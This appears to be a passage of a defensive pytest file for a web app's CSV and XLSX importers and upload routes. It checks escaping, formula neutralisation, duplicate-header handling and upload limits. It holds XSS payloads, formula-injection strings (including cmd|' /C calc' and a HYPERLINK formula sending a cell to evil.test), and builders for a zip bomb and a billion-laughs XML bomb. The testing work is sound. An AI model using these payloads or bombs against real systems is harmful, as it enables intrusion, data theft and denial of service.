"""Hostile input through the importers and uploads (issue 9).

- **XSS**: every text cell of every importer (and the column headers, and the file's name) is
  an HTML or attribute injection; every page and fragment a crawler reaches from the home page,
  plus the pages only a form opens, must show it escaped and never raw.
- **Formula injection**: every file Curate writes back (reject reports, exports) neutralises
  cells that a spreadsheet would run.
- **Duplicate headers**: no importer maps a repeated header silently.
- **Upload limits**: a body over ``MAX_CONTENT_LENGTH`` is 413 on every upload route, and a file
  of the wrong type is a 4xx with a clear message that stores nothing.
"""

from __future__ import annotations

import csv
import html
import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path
from urllib.parse import quote, urlsplit

import pytest
from markupsafe import escape
from openpyxl import Workbook
from sqlalchemy import select, update

from tests.gift_fixtures import make_group
from tests.support import wait_for_job
from webapp.extensions import db
from webapp.gifts.models import Client, Gift, GiftLine, Item, ItemImport
from webapp.pizzeria.import_models import get_batch
from webapp.pizzeria.models import Night

# --- payloads ---------------------------------------------------------------------------------

#: name -> (payload, its tell): a piece that only appears if the payload was written raw. The
#: payloads break out of text (``<script>``), of double- and of single-quoted attributes.
PAYLOADS = {
    "script": ("<script>alert(1)</script>", "<script>alert(1)"),
    "img": ('"><img src=x onerror=alert(2)>', "<img src=x onerror=alert(2)"),
    "dq": ('" autofocus onfocus=alert(3) x="', '" autofocus onfocus=alert(3)'),
    "sq": ("' autofocus onfocus=alert(4) x='", "' autofocus onfocus=alert(4)"),
}
TELLS = [tell for _, tell in PAYLOADS.values()]


def escaped(name: str) -> str:
    """The payload as autoescaped HTML shows it."""
    return str(escape(PAYLOADS[name][0]))


def raw_tells(text: str) -> list[str]:
    """The tells found unescaped in ``text``."""
    return [tell for tell in TELLS if tell in text]


def csv_bytes(rows: list[list[str]]) -> bytes:
    """``rows`` as CSV; "\r\n" line ends, so a cell holding a lone CR is quoted, not split."""
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    return out.getvalue().encode()


BOUNDARY = "curate-hostile-boundary"


def multipart_body(fields: dict) -> bytes:
    """``fields`` (text, or ``(content, filename)`` for files) as a multipart body, in memory.

    File names go in ``filename*`` (RFC 5987), as werkzeug reads them, so a name may hold any
    character: a browser would send ``"`` as ``%22``, but a hostile client need not.
    """
    parts = []
    for name, value in fields.items():
        if isinstance(value, tuple):
            content, filename = value
            head = (f'Content-Disposition: form-data; name="{name}"; filename="upload"; '
                    f"filename*=UTF-8''{quote(filename, safe='')}\r\n"
                    "Content-Type: application/octet-stream")
        else:
            content, head = value.encode(), f'Content-Disposition: form-data; name="{name}"'
        parts.append(f"--{BOUNDARY}\r\n{head}\r\n\r\n".encode() + content + b"\r\n")
    return b"".join(parts) + f"--{BOUNDARY}--\r\n".encode()


def multipart(client, url: str, fields: dict, headers: dict | None = None):
    """POST ``fields`` as multipart/form-data, encoded in memory (no spooled temporary file)."""
    return client.post(url, data=multipart_body(fields), headers=headers or {},
                       content_type=f"multipart/form-data; boundary={BOUNDARY}")


def file(content: bytes, name: str) -> tuple[bytes, str]:
    return content, name


@pytest.fixture
def app_config(app_config, tmp_path):
    """Uploads and covers go to this test's own folders."""
    app_config["GIFTS_IMPORT_FOLDER"] = str(tmp_path / "gift-imports")
    app_config["COVER_FOLDER"] = str(tmp_path / "covers")
    return app_config


# --- XSS: every import cell, shown everywhere -------------------------------------------------

P = {name: payload for name, (payload, _) in PAYLOADS.items()}


def seed_pizzeria(app, client) -> list[str]:
    """A nightly file and both exports full of payloads; returns the preview pages' URLs."""
    with app.app_context():
        db.session.add(Night(date=__import__("datetime").date(2024, 1, 1), reservations=1,
                             doughs=2, event_note=P["img"]))
        db.session.commit()
    nightly = csv_bytes([
        ["date", "reservations", "doughs", "event_note", P["script"], P["img"]],
        ["2024-01-01", "10", "20", P["script"], P["dq"], P["sq"]],  # a conflict: note differs
        ["2024-01-02", "10", "20", P["dq"], "", ""],
        ["2024-01-03", "10", "20", P["sq"], "", ""],
        [P["script"], "1", "2", "", "", ""],                        # bad date
        ["2024-01-04", P["img"], "2", "", "", ""],                 # bad reservations
        ["2024-01-05", "1", P["dq"], P["sq"], "", ""],             # bad doughs
        ["2024-01-06", "1", "2", "", "", "", P["sq"]],             # a value too many
    ])
    pages = []
    response = multipart(client, "/pizzeria/import", {
        "mode": "nightly", "nightly": file(nightly, P["img"] + ".csv")})
    assert response.status_code == 303, response.get_data(as_text=True)
    pages.append(response.headers["Location"])
    reservations = csv_bytes([
        ["date", "name", "party_size", P["sq"]],
        ["2024-02-01 19:30", P["script"], "2", P["img"]],
        [P["img"], "guest", "2", ""],
        ["2024-02-01", "guest", P["dq"], ""],
    ])
    pos = csv_bytes([
        ["date", "item", "quantity", P["dq"]],
        ["2024-02-01", P["script"], "3", ""],
        ["2024-02-01", "Dough", P["sq"], ""],
        [P["script"], "Dough", "1", ""],
    ])
    response = multipart(client, "/pizzeria/import", {
        "mode": "exports", "reservations": file(reservations, P["dq"] + ".csv"),
        "pos": file(pos, P["sq"] + ".csv")})
    assert response.status_code == 303, response.get_data(as_text=True)
    pages.append(response.headers["Location"])
    with app.app_context():
        for url in pages:
            wait_for_job(get_batch(url.rsplit("/", 1)[1]).job_id)
    return pages


def apply_pizzeria(client, url: str) -> None:
    response = client.post(url + "/apply", data={"conflicts": "overwrite"})
    assert response.status_code == 303, response.get_data(as_text=True)


def seed_tavern(client) -> list[str]:
    """A plain and a reference games file full of payloads; returns their result pages."""
    plain = csv_bytes([
        ["name", "price", "console", "gameplay", P["script"]],
        [f"Game {P['script']}", "2.50", P["img"], f"{P['dq']}|{P['sq']}", P["img"]],
        [f"Game {P['img']}", "1", P["script"], P["script"], ""],
        [f"Game {P['dq']}", "1", P["sq"], P["img"], ""],
        [f"Game {P['sq']}", "1", P["dq"], "", ""],
        [f"Bad {P['sq']}", P["script"], "PC", "", ""],            # bad price
        [f"Game {P['script']}", "3", "PC", "", ""],              # repeated name
        ["Long", "1", "PC", "x" * 200, ""],                      # a style too long
    ])
    reference = csv_bytes([
        ["game_name", "release_year", "console_name", "rating", "rental_cost", "genres",
         "gameplay_types"],
        [f"Ref {P['img']}", "2000", P["dq"], "5", "2", "", repr([P["sq"], P["script"]])],
        [f"Ref bad {P['img']}", "2000", "PC", "5", "2", "", f"[{P['script']}"],
    ])
    pages = []
    for content, name in ((plain, P["img"] + ".csv"), (reference, P["sq"] + ".csv")):
        response = multipart(client, "/tavern/import", {"games": file(content, name)})
        assert response.status_code == 303, response.get_data(as_text=True)
        pages.append(response.headers["Location"])
    return pages


def gift_rows() -> list[list[str]]:
    return [
        ["Name", "Price", "Vendor", "Category", "Description", "SKU", P["script"], P["img"]],
        [f"Mug {P['script']}", "5", P["img"], P["dq"], P["sq"], f"S1{P['img']}", P["dq"], "x"],
        [f"Tea {P['img']}", "6", P["script"], P["sq"], P["dq"], "", P["sq"], P["script"]],
        [f"Pen {P['dq']}", "7", P["sq"], P["script"], P["img"], "", "", ""],
        [f"Cup {P['sq']}", "8", P["dq"], P["img"], P["script"], "", "", ""],
        [P["img"], P["script"], "", "", "", "", P["sq"], ""],    # bad price
        ["Flag", "3", "", "", "", "", "", "", P["dq"]],           # a value too many
    ]


def xlsx_bytes(rows: list[list]) -> bytes:
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def seed_gifts(app, client) -> dict[str, list[str]]:
    """A CSV and an XLSX price list full of payloads, through the mapping step and the job.

    Returns the URLs of the mapping steps and of the results (the mapping step is checked
    before the import starts, since it redirects to the result afterwards).
    """
    pages = {"mapping": [], "result": [], "checks": []}
    xlsx_rows = [[cell.replace("Mug", "Bowl").replace("Tea", "Jar").replace("Pen", "Box")
                  .replace("Cup", "Tin") for cell in row] for row in gift_rows()]
    for content, name in ((csv_bytes(gift_rows()), P["img"] + ".csv"),
                          (xlsx_bytes(xlsx_rows), P["dq"] + ".xlsx")):
        response = multipart(client, "/gifts/import", {
            "upload": file(content, name), "profile": "", "on_duplicate": "skip"})
        assert response.status_code == 303, response.get_data(as_text=True)
        mapping_url = response.headers["Location"]
        import_id = mapping_url.split("/")[-2]
        pages["mapping"].append(mapping_url)
        with app.app_context():
            row = db.session.get(ItemImport, import_id)
            data = {f"column_{i}": row.mapping.get(header, "")
                    for i, header in enumerate(row.headers)}
        check = client.post(mapping_url + "/check", data={**data, "on_duplicate": "skip"},
                            headers={"HX-Request": "true"})
        pages["checks"].append(check.get_data(as_text=True))
        mapping_page = client.get(mapping_url).get_data(as_text=True)
        pages["checks"].append(mapping_page)
        started = client.post(mapping_url, data={**data, "on_duplicate": "skip"})
        assert started.status_code == 303, started.get_data(as_text=True)
        pages["result"].append(started.headers["Location"])
        with app.app_context():
            wait_for_job(db.session.get(ItemImport, import_id).job_id)
    return pages


def seed_gift_catalogue(app) -> int:
    """Label groups; the CSV's items accepted (briefs) and the workbook's left pending (the
    queue); a client with a gift of payload items. Returns the gift's id."""
    with app.app_context():
        make_group("theme", ("coffee", "tea"))
        db.session.execute(update(Item).where(Item.name.not_like("Bowl%"),
                                              Item.name.not_like("Jar%"),
                                              Item.name.not_like("Box%"),
                                              Item.name.not_like("Tin%"))
                           .values(status="accepted"))
        client = Client(name="Acme", name_key="acme", industry="tech")
        gift = Gift(client=client, name="Welcome", budget_min=Decimal(1),
                    budget_max=Decimal(50))
        gift.lines = [GiftLine(item_id=item.id, item_name=item.name, unit_price=item.unit_price,
                               position=n)
                      for n, item in enumerate(db.session.scalars(select(Item)))]
        db.session.add(gift)
        db.session.commit()
        return gift.id


LINK_RE = re.compile(r'\s(?:href|hx-get)="([^"]*)"')
#: Not pages: files, assets, and the one GET that changes state (none) or logs out.
SKIP_RE = re.compile(r"^/(?:.*/)?static/|\.(?:csv|svg|json|js|css)(?:\?|$)|^/api/|^/tavern/covers/")
CRAWL_MAX = 400


def links(body: str) -> list[str]:
    """Same-site GET targets of a page: its links and its ``hx-get`` attributes."""
    found = []
    for target in LINK_RE.findall(body):
        url = html.unescape(target)
        parts = urlsplit(url)
        if parts.scheme or parts.netloc or not url.startswith("/") or SKIP_RE.search(url):
            continue
        found.append(url)
    return found


def crawl(client, start: list[str]) -> dict[str, str]:
    """Every page reachable from ``start`` (plain GETs, then each again as htmx): url -> body.

    Each body is checked on the way: no 5xx, no raw payload in the body or the headers.
    """
    seen: dict[str, str] = {}
    queue = list(start)
    while queue and len(seen) < CRAWL_MAX:
        url = queue.pop(0)
        if url in seen:
            continue
        for headers in ({}, {"HX-Request": "true"}):
            response = client.get(url, headers=headers)
            body = response.get_data(as_text=True)
            where = f"{url} ({'htmx' if headers else 'page'}, {response.status_code})"
            assert response.status_code < 500, where
            assert not raw_tells(body), f"{where}: raw {raw_tells(body)}"
            assert not raw_tells(str(response.headers)), f"{where} headers"
            if not headers:
                seen[url] = body
                queue.extend(link for link in links(body) if link not in seen)
            else:
                seen[url] += body
    assert len(seen) < CRAWL_MAX, "the crawl did not finish: raise CRAWL_MAX"
    return seen


def shown(body: str) -> set[str]:
    """The payloads ``body`` shows (escaped)."""
    return {name for name in PAYLOADS if escaped(name) in body}


def rule_preview_form(value: str) -> dict:
    """The rule builder's form: name/description contains ``value`` (other rows unused)."""
    form = {"name": "", "priority": "100", "match": "all", "enabled": "y"}
    for index in range(5):
        field, op, text = ("text", "contains", value) if index == 0 else ("", "contains", "")
        form.update({f"conditions-{index}-field": field, f"conditions-{index}-op": op,
                     f"conditions-{index}-value": text})
    return form


def test_import_cells_are_escaped_on_every_page_that_shows_them(app, client, auth, runner):
    """Payloads in every cell, header and file name of every importer; then every page.

    The crawl starts at the home page and follows every link and ``hx-get`` (each page also
    fetched as htmx); the pages only a form opens (previews, mapping steps, proposals, searches)
    are added by hand. No page may hold a payload raw, and each page that shows imported data
    must show its payloads escaped (so the test sees the data it claims to check).
    """
    auth.login("admin")
    nightly, exports = seed_pizzeria(app, client)
    previews = {url: client.get(url).get_data(as_text=True) for url in (nightly, exports)}
    tavern = seed_tavern(client)
    gifts = seed_gifts(app, client)
    gift_id = seed_gift_catalogue(app)
    apply_pizzeria(client, nightly)
    trained = runner.invoke(args=["models", "train", "games"])
    assert trained.exit_code == 0, trained.output
    with app.app_context():
        pending = db.session.scalar(select(Item.id).where(Item.status == "pending"))
    decided = client.post(f"/gifts/queue/items/{pending}/decide", data={"action": "skip"},
                          headers={"HX-Request": "true"}).get_data(as_text=True)
    forms = {  # pages a form opens, with what they show
        "rule preview": client.post("/gifts/rules/preview", data=rule_preview_form("<"),
                                    headers={"HX-Request": "true"}).get_data(as_text=True),
        "queue decision": decided,
    }
    for where, body in [*previews.items(), *forms.items(),
                        *((f"gift mapping check {n}", body)
                          for n, body in enumerate(gifts["checks"]))]:
        assert not raw_tells(body), f"{where}: raw {raw_tells(body)}"
    brief = "budget_min=1&budget_max=100&recipients=1"
    search = "&".join(f"{name}={quote(P['img'])}" for name in ("title", "vendor"))
    pages = crawl(client, [
        "/", *tavern, *gifts["result"], f"/gifts/gifts/{gift_id}", f"/gifts/brief?{brief}",
        f"/gifts/brief/proposals?{brief}", f"/tavern/?budget=standard&gameplay={quote(P['sq'])}",
        f"/gifts/items?q={quote(P['script'])}", f"/gifts/labels/try/suggestions?{search}",
        f"/gifts/gifts/{gift_id}/picker?q=Mug",
    ])
    everything = set(PAYLOADS)
    expected = {
        **{url: everything for url in previews},
        tavern[0]: everything, tavern[1]: {"script", "img", "sq"},
        **{url: {"script", "img"} for url in gifts["result"]},
        "/pizzeria/nights": {"script", "dq", "sq"}, "/pizzeria/import": {"img", "dq", "sq"},
        "/tavern/games": everything, "/tavern/styles": everything, "/tavern/": everything,
        f"/tavern/?budget=standard&gameplay={quote(P['sq'])}": everything,
        "/tavern/suggestions": everything, "/tavern/import": {"img", "sq"},
        "/gifts/items": everything, f"/gifts/items?q={quote(P['script'])}": everything,
        "/gifts/queue": everything, "/gifts/import": {"img", "dq"},
        f"/gifts/gifts/{gift_id}": everything, f"/gifts/gifts/{gift_id}/picker": everything,
        f"/gifts/brief?{brief}": everything, f"/gifts/brief/proposals?{brief}": everything,
        f"/gifts/labels/try/suggestions?{search}": {"img"},
    }
    for url, names in expected.items():
        body = previews.get(url) or pages[url]
        assert names <= shown(body), f"{url} shows only {sorted(shown(body))}"
    assert everything <= shown(forms["queue decision"]) and "script" in shown(forms["rule preview"])
    assert {"script", "img"} <= shown(gifts["checks"][0])  # the live check: unmapped headers
    assert everything <= shown(gifts["checks"][1])  # the mapping step: headers and samples
    # How much was tried, for the closing note.
    print(f"\n{len(PAYLOADS)} payloads; {len(pages)} pages crawled (each as page and htmx); "
          f"{len(previews) + len(forms) + len(gifts['checks'])} form answers")


ROOT = Path(__file__).resolve().parents[2]
#: Uses of "trust this markup" allowed in templates and in webapp/, each with its reason.
#: Empty: nothing user-facing is marked safe; add an entry (file, text) only with a reason.
TRUSTED_MARKUP: dict[tuple[str, str], str] = {}
UNSAFE_TEMPLATE_RE = re.compile(r"\|\s*safe\b|autoescape\s+false|Markup\(|\{%-?\s*filter\s+safe")
UNSAFE_PYTHON_RE = re.compile(r"\bMarkup\(|render_template_string|from_string\(|\.autoescape\s*=")


def test_no_template_or_view_marks_user_data_safe(app):
    """Escaping cannot be switched off quietly: every template is autoescaped HTML, none uses
    ``|safe``, ``Markup(`` or ``{% autoescape false %}``, and no Python code builds markup or
    templates from strings (except the allow-listed uses above, each with its reason)."""
    templates = sorted((ROOT / "templates").rglob("*"))
    files = [path for path in templates if path.is_file()]
    assert files and all(path.suffix == ".html" for path in files), "autoescape is by suffix"
    assert all(app.jinja_env.autoescape(path.name) for path in files)
    found = []
    for path in files:
        found += [(str(path.relative_to(ROOT)), hit) for hit in
                  UNSAFE_TEMPLATE_RE.findall(path.read_text(encoding="utf-8"))]
    for path in sorted((ROOT / "webapp").rglob("*.py")):
        found += [(str(path.relative_to(ROOT)), hit) for hit in
                  UNSAFE_PYTHON_RE.findall(path.read_text(encoding="utf-8"))]
    assert [hit for hit in found if tuple(hit) not in TRUSTED_MARKUP] == []


# --- duplicate headers: never a silent pick ---------------------------------------------------


def test_pizzeria_uses_the_first_of_a_repeated_header_and_says_so_on_line_1():
    from webapp.pizzeria.imports import parse_exports, parse_nightly

    parsed = parse_nightly(b"date,doughs,reservations,Doughs\n2024-01-01,7,10,99\n")
    assert [row.doughs for row in parsed.rows] == [7]
    assert ("Line 1 of the nightly CSV names 'doughs' twice (columns 2 and 4): the first, "
            "column 2, was used and the others were left out.") in parsed.problems
    exports = parse_exports(b"date,party_size,Date\n2024-01-01,2,2024-02-02\n",
                            b"date,item,quantity,QTY,Quantity\n2024-01-01,pizza,3,4,5\n",
                            ["pizza"])
    assert [(row.date.isoformat(), row.reservations, row.doughs) for row in exports.rows] == [
        ("2024-01-01", 1, 3)]
    assert any(note.startswith("Line 1 of the reservations export names 'date' twice")
               for note in exports.problems)
    assert any("names 'quantity' twice (columns 3 and 5)" in note for note in exports.problems)
    # Synonyms: the earlier in the list wins, and the note says which was used.
    assert ("Line 1 of the point-of-sale export: 'QTY' (column 4) also names the quantity; "
            "'quantity' (column 3) was used.") in exports.problems


def test_the_pizzeria_preview_shows_the_repeated_header(app, client, auth):
    auth.login("staff")
    content = b"date,doughs,reservations,doughs\n2024-01-01,7,10,99\n"
    response = multipart(client, "/pizzeria/import", {"mode": "nightly",
                                                      "nightly": file(content, "n.csv")})
    assert response.status_code == 303
    with app.app_context():
        wait_for_job(get_batch(response.headers["Location"].rsplit("/", 1)[1]).job_id)
    page = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "Line 1 of the nightly CSV names &#39;doughs&#39; twice (columns 2 and 4)" in page


@pytest.mark.parametrize(("content", "named"), [
    (b"name,price,Price\nTetris,1,2\n", "'price' twice (columns 2 and 3)"),
    (b"Name,price,console,NAME,name\nTetris,1,PC,Doom,Quake\n",
     "'Name' 3 times (columns 1, 4 and 5)"),
    (b"game_name,console_name,rental_cost,gameplay_types,Game Name\nA,PC,1,[],B\n",
     "'game_name' twice (columns 1 and 5)"),
])
def test_the_tavern_refuses_a_repeated_header_it_would_import(app, client, auth, content,
                                                               named):
    """Regression: the first column was used silently (the import writes at once)."""
    from webapp.tavern.models import CatalogueImport, Game

    auth.login("staff")
    response = multipart(client, "/tavern/import", {"games": file(content, "games.csv")},
                         headers={"HX-Request": "true"})
    assert response.status_code == 422
    text = html.unescape(response.get_data(as_text=True))
    assert f"Line 1 (the header) names {named}, so it is not clear which column" in text
    with app.app_context():
        assert db.session.scalar(select(db.func.count()).select_from(Game)) == 0
        assert db.session.scalar(select(db.func.count()).select_from(CatalogueImport)) == 0


def test_the_tavern_says_which_synonym_it_used_and_ignores_repeated_unused_columns(app):
    from webapp.tavern.imports import parse_catalogue

    parsed = parse_catalogue(b"title,Name,price,notes,notes\nTetris,Doom,1,a,b\n")
    assert [row.name for row in parsed.rows] == ["Doom"]
    assert ("Line 1: 'title' (column 1) also names the game's name; 'Name' (column 2) was "
            "used.") in parsed.problems
    assert "Columns not used: notes, notes." in parsed.problems


GIFT_REPEATED = [["Name", "Price", "price", "Vendor"], ["Mug", "5", "50", "Potter"]]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_gifts_rename_a_repeated_header_and_show_it_at_the_mapping_step(app, client, auth,
                                                                         kind):
    auth.login("staff")
    content = csv_bytes(GIFT_REPEATED) if kind == "csv" else xlsx_bytes(GIFT_REPEATED)
    response = multipart(client, "/gifts/import", {
        "upload": file(content, f"items.{kind}"), "profile": "", "on_duplicate": "skip"})
    assert response.status_code == 303
    page = html.unescape(client.get(response.headers["Location"]).get_data(as_text=True))
    assert ("Some headers appear more than once; the later columns were renamed: 'price' "
            "(column 3) is called 'price (2)'.") in page
    import_id = response.headers["Location"].split("/")[-2]
    with app.app_context():
        record = db.session.get(ItemImport, import_id)
        assert record.headers == ["Name", "Price", "price (2)", "Vendor"]
        assert record.mapping == {"Name": "name", "Price": "unit_price", "Vendor": "vendor"}
        assert record.unmapped == ["price (2)"]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_profile_does_not_import_a_file_that_repeats_a_header_it_maps(app, client, auth,
                                                                        kind):
    """Regression: with a profile the import started at once, silently from the first
    "Price" column; now the mapping step opens and says why."""
    from webapp.gifts.models import ImportProfile

    auth.login("staff")
    with app.app_context():
        profile = ImportProfile(name="Potter", mapping={"Name": "name", "price": "unit_price"},
                                on_duplicate="skip")
        db.session.add(profile)
        db.session.commit()
        profile_id = str(profile.id)
    content = csv_bytes(GIFT_REPEATED) if kind == "csv" else xlsx_bytes(GIFT_REPEATED)
    response = multipart(client, "/gifts/import", {
        "upload": file(content, f"items.{kind}"), "profile": profile_id,
        "on_duplicate": "skip"})
    assert response.status_code == 303 and response.headers["Location"].endswith("/mapping")
    page = html.unescape(client.get(response.headers["Location"]).get_data(as_text=True))
    assert ("This file has more than one column named 'price' (line 1), so the profile "
            "'Potter' cannot tell which to import: check the mapping below.") in page
    with app.app_context():
        assert db.session.scalar(select(ItemImport.status)) == "mapping"
        assert db.session.scalar(select(db.func.count()).select_from(Item)) == 0
    # A repeated header the profile does not map does not get in the way.
    fine = csv_bytes([["Name", "price", "Notes", "notes"], ["Mug", "5", "a", "b"]])
    started = multipart(client, "/gifts/import", {
        "upload": file(fine, "items.csv"), "profile": profile_id, "on_duplicate": "skip"})
    assert started.status_code == 303 and not started.headers["Location"].endswith("/mapping")


# --- formula injection: every file Curate writes back -----------------------------------------

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.test/?x="&A1,"Error")',
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\x00")


def risky_cells(text: str) -> list[str]:
    """The cells of a CSV download a spreadsheet would run as formulas."""
    rows = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


def neutralised_cells(text: str) -> set[str]:
    """The cells that were neutralised (a leading ``'`` before a formula character)."""
    rows = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
    return {cell[1:] for row in rows for cell in row if cell[1:].startswith(FORMULA_STARTS)
            and cell.startswith("'")}


def download(client, url: str) -> str:
    response = client.get(url)
    assert response.status_code == 200 and response.mimetype == "text/csv", url
    return response.get_data(as_text=True)


def test_formulas_are_neutralised_in_every_reject_report_and_export(app, client, auth):
    """Formulas in cells, headers and file names of every importer: each reject report (and
    the gift export) holds them only neutralised, and each holds them (so the check bites)."""
    auth.login("admin")
    name = "@SUM(1+1)*cmd.csv"
    downloads = {}
    nightly = csv_bytes([["date", "reservations", "doughs", FORMULAS[0]],
                         *([formula, "1", "2", ""] for formula in FORMULAS)])
    response = multipart(client, "/pizzeria/import", {"mode": "nightly",
                                                      "nightly": file(nightly, name)})
    batch = response.headers["Location"]
    with app.app_context():
        wait_for_job(get_batch(batch.rsplit("/", 1)[1]).job_id)
    downloads["pizzeria"] = download(client, batch + "/report.csv")
    games = csv_bytes([["name", "price", FORMULAS[1]],
                       *([formula, "not a price", formula] for formula in FORMULAS)])
    response = multipart(client, "/tavern/import", {"games": file(games, name)})
    downloads["tavern"] = download(client, response.headers["Location"] + "/report.csv")
    items = csv_bytes([["Name", "Price", FORMULAS[2]],
                       *([formula, "not a price", formula] for formula in FORMULAS),
                       *([f"{formula} {n}", "5", formula] for n, formula in enumerate(FORMULAS))])
    response = multipart(client, "/gifts/import", {"upload": file(items, name), "profile": "",
                                                   "on_duplicate": "skip"})
    mapping = response.headers["Location"]
    started = client.post(mapping, data={"column_0": "name", "column_1": "unit_price",
                                         "column_2": "description", "on_duplicate": "skip"})
    with app.app_context():
        wait_for_job(db.session.get(ItemImport, mapping.split("/")[-2]).job_id)
    downloads["gift rejects"] = download(client, started.headers["Location"] + "/rejects.csv")
    downloads["gift export"] = download(client, "/gifts/export/download?format=csv")
    for where, text in downloads.items():
        assert risky_cells(text) == [], where
    for where, text in downloads.items():
        cells = neutralised_cells(text)
        # A report's raw row is the whole line: it starts with the formula unless the CSV
        # writer had to quote it (a quote or CR inside), and then no spreadsheet runs it.
        # Imported text is trimmed, so items start with no tab or CR.
        expected = {"gift rejects": FORMULAS, "gift export": FORMULAS[:4] + FORMULAS[6:]}.get(
            where, FORMULAS[:5])
        assert [formula for formula in expected
                if not any(cell.startswith(formula) for cell in cells)] == [], where
    assert name in neutralised_cells(downloads["pizzeria"])  # the file's name, too


@pytest.mark.parametrize("cell", [*FORMULAS, "\x00=1+1"])
def test_neutralise_quotes_every_formula_start(cell):
    from webapp.csv_import import neutralise, report_csv

    assert neutralise(cell) == "'" + cell
    assert neutralise("plain " + cell) == "plain " + cell
    from webapp.csv_import import Reject

    assert risky_cells(report_csv([Reject(2, cell, cell, cell)])) == []


# --- uploads: size and type -------------------------------------------------------------------

#: Every upload route: (url, other fields, the file field).
UPLOAD_ROUTES = {
    "pizzeria nightly": ("/pizzeria/import", {"mode": "nightly"}, "nightly"),
    "pizzeria exports": ("/pizzeria/import", {"mode": "exports"}, "pos"),
    "tavern import": ("/tavern/import", {}, "games"),
    "tavern cover": ("/tavern/games/{game}/cover", {}, "cover"),
    "gifts import": ("/gifts/import", {"profile": "", "on_duplicate": "skip"}, "upload"),
}


@pytest.fixture
def game(app) -> int:
    """A game to put a cover on."""
    from webapp.tavern.models import Game

    with app.app_context():
        row = Game(name="Tetris", name_key="tetris", console="PC", price_per_hour=Decimal(2))
        db.session.add(row)
        db.session.commit()
        return row.id


def stored(app, tmp_path) -> dict[str, int]:
    """What uploads left behind: rows of every import table, covers, and files on disk."""
    from webapp.pizzeria.import_models import ImportBatch, ImportFile
    from webapp.tavern.models import CatalogueImport, Game

    with app.app_context():
        counts = {model.__name__: db.session.scalar(select(db.func.count()).select_from(model))
                  for model in (ImportBatch, ImportFile, CatalogueImport, ItemImport)}
        counts["covers"] = db.session.scalar(select(db.func.count()).select_from(Game)
                                             .where(Game.cover_filename.is_not(None)))
    counts["files"] = sum(1 for path in tmp_path.rglob("*")
                          if path.is_file() and path.parent.name in ("gift-imports", "covers"))
    return counts


NOTHING = {"ImportBatch": 0, "ImportFile": 0, "CatalogueImport": 0, "ItemImport": 0,
           "covers": 0, "files": 0}


def post_upload(client, route: str, game: int, content: bytes, filename: str, htmx: bool):
    url, fields, field = UPLOAD_ROUTES[route]
    return multipart(client, url.format(game=game), {**fields, field: file(content, filename)},
                     headers={"HX-Request": "true"} if htmx else {})


@pytest.mark.parametrize("htmx", [False, True], ids=["page", "htmx"])
@pytest.mark.parametrize("route", UPLOAD_ROUTES)
def test_a_body_over_the_limit_is_413_on_every_upload_route(app, client, auth, game, tmp_path,
                                                            route, htmx):
    auth.login("admin")
    limit = app.config["MAX_CONTENT_LENGTH"]
    assert limit == 32 * 1024 * 1024  # the configured default, not a test value
    response = post_upload(client, route, game, b"x" * (limit + 1), "big.csv", htmx)
    assert response.status_code == 413
    text = response.get_data(as_text=True)
    assert "The upload is larger than this server accepts." in text
    if htmx:
        assert "<html" not in text and response.headers["HX-Retarget"] == "#flash"
    else:
        assert "<html" in text
    assert stored(app, tmp_path) == NOTHING


PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06" + bytes(64)
PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(200)


def xlsx_bomb(part_bytes: int) -> bytes:
    """A valid workbook whose shared strings unpack to ``part_bytes`` (packed: a thousandth)."""
    rows = xlsx_bytes([["Name", "Price"], ["Mug", 5]])
    source = zipfile.ZipFile(io.BytesIO(rows))
    out = io.BytesIO()
    override = (b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>')
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in source.namelist():
            data = source.read(name)
            if name == "[Content_Types].xml":
                data = data.replace(b"</Types>", override + b"</Types>")
            archive.writestr(name, data)
        with archive.open("xl/sharedStrings.xml", "w") as part:
            part.write(b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                       b"<si><t>")
            chunk = b"a" * (1 << 20)
            for _ in range(part_bytes // len(chunk)):
                part.write(chunk)
            part.write(b"</t></si></sst>")
    return out.getvalue()


def billion_laughs() -> bytes:
    """A workbook whose sheet expands an entity a billion times (an XML bomb)."""
    rows = zipfile.ZipFile(io.BytesIO(xlsx_bytes([["Name", "Price"], ["Mug", 5]])))
    entities = '<!ENTITY l0 "lollollollol">' + "".join(
        f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in rows.namelist():
            data = rows.read(name).decode()
            if name == "xl/worksheets/sheet1.xml":
                data = re.sub(r"^<\?xml[^>]*\?>", "", data).replace(">Mug<", ">&l9;<")
                data = f'<?xml version="1.0"?><!DOCTYPE s [{entities}]>{data}'
            archive.writestr(name, data)
    return out.getvalue()


#: Files of the wrong type, by name (built when used: the bomb is 65 MB unpacked).
CONTENTS = {
    "program": lambda: PROGRAM, "png": lambda: PNG, "csv": lambda: b"name,price\nTetris,2\n",
    "bomb": lambda: xlsx_bomb(65 * 1024 * 1024), "laughs": billion_laughs,
}
#: (route, file, its name, what the message says)
WRONG_TYPES = [
    *((route, "program", "tool.exe", "Only .csv and .txt files can be imported.")
      for route in ("pizzeria nightly", "pizzeria exports", "tavern import")),
